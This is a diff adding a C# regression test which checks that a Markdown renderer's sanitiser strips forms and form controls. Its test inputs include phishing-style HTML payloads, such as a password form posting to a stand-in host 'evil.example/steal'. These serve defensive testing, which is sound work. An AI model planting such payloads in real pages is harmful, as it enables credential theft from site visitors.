@@ -83,6 +83,22 @@ public sealed class MarkdownRendererTests
             $"raw HTML is not shown as written: the sanitiser removes {removed}"), finding);
     }
 
+    [Theory]
+    [InlineData("<form action=\"https://evil.example/steal\"><input type=\"password\"><button>Sign in</button></form>")]
+    [InlineData("<button formaction=\"https://evil.example/\">Go</button>")]
+    [InlineData("<isindex action=\"https://evil.example/\">")]
+    [InlineData("<label>Card number <input name=\"card\"></label><textarea>x</textarea><select><option>1</option></select>")]
+    public void Forms_and_form_controls_are_removed_so_an_article_cannot_post_anywhere(string html)
+    {
+        // Regression: HtmlSanitizer allows forms by default, so a content file could show a password box posting off-site.
+        var rendered = Renderer.Render($"Intro.\n\n{html}\n", "a.md").Html;
+
+        foreach (var tag in new[] { "<form", "<input", "<button", "<textarea", "<select", "<label", "action=" })
+        {
+            Assert.DoesNotContain(tag, rendered, StringComparison.OrdinalIgnoreCase);
+        }
+    }
+
     [Fact]
     public void Raw_html_the_sanitiser_keeps_is_shown_without_a_warning()
     {
